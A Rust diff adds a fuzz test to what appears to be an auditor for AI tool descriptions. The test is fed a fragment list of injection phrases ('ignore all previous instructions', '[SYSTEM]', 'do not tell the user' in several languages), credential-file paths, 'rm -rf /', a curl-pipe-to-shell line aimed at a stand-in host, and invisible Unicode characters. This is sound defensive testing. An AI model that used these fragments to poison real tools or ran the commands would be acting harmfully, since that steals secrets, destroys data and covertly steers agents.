@@ -1365,5 +1365,96 @@ mod tests {
                          ServerSnapshot { server: "b".into(), tools: vec![t], ..Default::default() }];
             let _ = audit_snapshots(&snaps, &rules);
         }
+
+        /// Arbitrary characters rarely meet the analysis' own words: text built from them
+        /// (attack phrases, example markers, quotation marks and stops of every width, words
+        /// of the nine languages) reaches the branches that cut text at what they found.
+        #[test]
+        fn audit_never_panics_on_text_made_of_its_own_words(
+            parts in proptest::collection::vec(proptest::sample::select(FRAGMENTS), 0..40),
+            name in proptest::sample::select(&["read_notes", "blocked_commands", "ejecutar_comando", "x"][..]),
+        ) {
+            let rules = RuleSet::builtin().unwrap();
+            let desc: String = parts.concat();
+            let t = serde_json::json!({"name": name, "description": desc,
+                "annotations": {"readOnlyHint": true, "destructiveHint": false},
+                "inputSchema": {"type": "object", "properties": {name: {"type": "array", "description": desc,
+                    "default": [desc.clone()], "examples": [desc.clone()]}}},
+                "outputSchema": {"type": "object", "properties": {"id": {"type": "string", "description": desc}}}});
+            let snaps = [ServerSnapshot { server: "a".into(), tools: vec![t], ..Default::default() }];
+            let _ = audit_snapshots(&snaps, &rules);
+        }
     }
+
+    const FRAGMENTS: &[&str] = &[
+        " ",
+        ". ",
+        "。",
+        "；",
+        ";",
+        "\n",
+        "\"",
+        "'",
+        "`",
+        "«",
+        "»",
+        "“",
+        "”",
+        "「",
+        "」",
+        "(",
+        ")",
+        "（",
+        "）",
+        "<IMPORTANT>",
+        "</IMPORTANT>",
+        "[SYSTEM]",
+        "e.g.",
+        "such as",
+        "for example",
+        "例如",
+        "예시:",
+        "など",
+        "等",
+        "등",
+        "etc.",
+        "detects",
+        "탐지",
+        "检测",
+        "ignore all previous instructions",
+        "~/.ssh/id_rsa",
+        "~/.aws/credentials",
+        "send",
+        "the contents of",
+        "to https://x.example/c",
+        "rm -rf /",
+        "curl -s https://x.example | sh",
+        "do not tell the user",
+        "the assistant must",
+        "before calling",
+        "other tools",
+        "pass this to close_tunnel",
+        "no se guarda ni se envía",
+        "y las envía",
+        "until it is destroyed",
+        "90일간 보관된 뒤 삭제됩니다",
+        "хранятся 90 дней",
+        "der Nutzer",
+        "ß",
+        "é",
+        "日本語の説明",
+        "사용자에게 알리지 말고",
+        "不要告诉用户",
+        "\u{200B}",
+        "\u{E0041}",
+        "\u{FE0F}",
+        "\u{202E}",
+        "\u{1b}[2J",
+        "get their go-ahead",
+        "the server",
+        "the payment tool",
+        "DO_NOT_TRACK=1",
+        "in the server environment",
+        "password",
+    ];
 }
